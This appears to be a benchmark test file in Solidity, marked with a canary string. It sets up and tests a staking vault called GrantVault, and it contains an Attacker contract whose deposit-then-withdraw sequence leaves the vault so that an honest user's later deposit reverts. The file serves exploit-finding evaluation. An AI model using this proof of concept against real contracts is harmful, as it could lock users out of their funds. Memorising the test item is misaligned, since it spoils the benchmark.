// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./GrantVault.sol";

// assay-canary-7c2e7006-7702-4edf-920f-75bdb52bc1d4

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "!maker");
        _mint(to, amount);
    }
}

// Has room for so much, and owes a reward of so much.
contract Farm is IFarm {
    Token private token;
    Token private reward;
    uint256 private cap;
    uint256 public total;
    mapping(address => uint256) public override staked;

    constructor(Token _token, Token _reward, uint256 _cap) {
        token = _token;
        reward = _reward;
        cap = _cap;
    }

    function stake(uint256 _amount) external override returns (uint256) {
        uint256 room = cap - total;
        if (_amount > room) _amount = room;
        total += _amount;
        staked[msg.sender] += _amount;
        require(token.transferFrom(msg.sender, address(this), _amount), "!transfer");
        return _amount;
    }

    function unstake(uint256 _amount) external override {
        require(staked[msg.sender] >= _amount, "!staked");
        total -= _amount;
        staked[msg.sender] -= _amount;
        require(token.transfer(msg.sender, _amount), "!transfer");
    }

    // a hundredth of what the caller has staked, each time
    function claim(address _to) external override returns (uint256 amount) {
        amount = staked[msg.sender] / 100;
        require(reward.transfer(_to, amount), "!transfer");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);

    Token private token;
    Token private reward;
    Farm private farm;
    GrantVault private vault;
    Attacker private mallory;

    function setUp() public {
        token = new Token();
        reward = new Token();
        farm = new Farm(token, reward, 10_000e18);
        vault = new GrantVault(token, farm, CAT);
        reward.mint(address(farm), 1_000e18);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.mint(all[i], 8_000e18);
            vm.prank(all[i]);
            token.approve(address(vault), 8_000e18);
        }
        vm.prank(BEN);
        vault.deposit(6_000e18);
        mallory = new Attacker(vault, token);
        token.mint(address(mallory), 4_000e18 + 1);
    }

    // An honest user's call.
    function depositOfAna() external {
        vm.prank(ANA);
        vault.deposit(1e18);
    }

    function test_Regular() public {
        vm.prank(ANA);
        vault.deposit(3_000e18);
        require(vault.balanceOf(ANA) == 3_000e18 && farm.staked(address(vault)) == 9_000e18, "deposited");
        vault.harvest();
        require(reward.balanceOf(CAT) == 90e18, "for the grantee");
        vm.startPrank(BEN);
        vault.withdraw(1_000e18);
        require(token.balanceOf(BEN) == 3_000e18 && farm.staked(address(vault)) == 8_000e18, "back");
        vault.transfer(CAT, 1_000e18);
        vault.approve(ANA, 1e18);
        vault.increaseAllowance(ANA, 1e18);
        vault.decreaseAllowance(ANA, 1e18);
        vm.stopPrank();
        vm.prank(ANA);
        vault.transferFrom(BEN, ANA, 1e18);

        reward.mint(address(vault), 5e18);
        vault.sweep(reward, 5e18);
        require(reward.balanceOf(address(this)) == 5e18, "swept");
        vault.setGrantee(BEN);
        vault.setClosed(true);
        vault.setClosed(false);
        vault.setGovernance(ANA);
        vault.earn();

        // more than there is room for
        vm.prank(ANA);
        vault.deposit(4_000e18);
        require(farm.staked(address(vault)) == 10_000e18 && vault.idle() == 2_000e18, "the rest stays here");
        vm.prank(ANA);
        vault.withdraw(2_500e18);
        require(farm.staked(address(vault)) == 9_500e18 && vault.idle() == 0, "first what is here");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("!governance");
        vault.setGovernance(ANA);
        vm.expectRevert("!governance");
        vault.setGrantee(ANA);
        vm.expectRevert("!governance");
        vault.setClosed(true);
        vm.expectRevert("!governance");
        vault.sweep(reward, 0);
        vm.expectRevert("ERC20: burn amount exceeds balance");
        vault.withdraw(1);
        vm.stopPrank();
    }

    function test_RefusesMistakes() public {
        vm.expectRevert("!token");
        vault.sweep(token, 0);
        vm.expectRevert("!grantee");
        vault.setGrantee(address(0));
        vm.prank(ANA);
        vm.expectRevert("!amount");
        vault.deposit(0);
        vault.setClosed(true);
        vm.prank(ANA);
        vm.expectRevert("!open");
        vault.deposit(1);
        vm.expectRevert("!token");
        new GrantVault(IERC20(address(0)), farm, CAT);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        (bool done, ) = address(this).call(abi.encodeWithSelector(this.depositOfAna.selector));
        require(!done, "ana can deposit");
    }

    function target() public view returns (address) {
        return address(vault);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    GrantVault private vault;
    IERC20 private token;

    constructor(GrantVault _vault, IERC20 _token) {
        vault = _vault;
        token = _token;
    }

    function run() external {
        uint256 amount = token.balanceOf(address(this));
        token.approve(address(vault), amount);
        vault.deposit(amount);
        vault.withdraw(amount);
    }
}
